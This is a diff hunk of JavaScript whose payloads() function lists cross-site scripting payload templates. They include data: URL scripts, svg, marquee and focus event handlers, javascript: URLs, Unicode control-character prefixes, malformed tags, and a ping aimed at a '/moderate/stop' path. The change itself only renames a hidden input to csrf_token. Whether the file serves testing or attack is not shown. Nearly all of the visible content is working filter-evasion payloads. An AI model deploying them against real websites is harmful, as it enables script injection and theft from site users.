@@ -244,7 +244,7 @@ function payloads() {
     (act) => `<a href="data:text/html,<script>${act}</script>">x</a>`, (act) => `<svg><animate onbegin='${act}' attributeName=x>`,
     (act) => `<marquee onstart='${act}'>x</marquee>`, (act) => `<select autofocus onfocus='${act}'>`, (act) => `<isindex type=image src=1 onerror='${act}'>`,
     (act) => `<table background="javascript:${act}"><tr><td>x</table>`, (act) => `<a ping="/moderate/stop" href="#">${act}</a>`,
-    (act) => `<input type=hidden name=guard value=x><script>${act}</script>`, (act) => `<mark class="removed"><script>${act}</script></mark>`,
+    (act) => `<input type=hidden name=csrf_token value=x><script>${act}</script>`, (act) => `<mark class="removed"><script>${act}</script></mark>`,
     (act) => `\u2028<script>${act}</script>`, (act) => `\u202e<script>${act}</script>`, (act) => `<b/onclick='${act}'>x`, (act) => `<script\n>${act}</script\n>`,
     (act) => `<img\nsrc=x\nonerror='${act}'>`, (act) => `<img/src=x/onerror='${act}'>`,
   ];
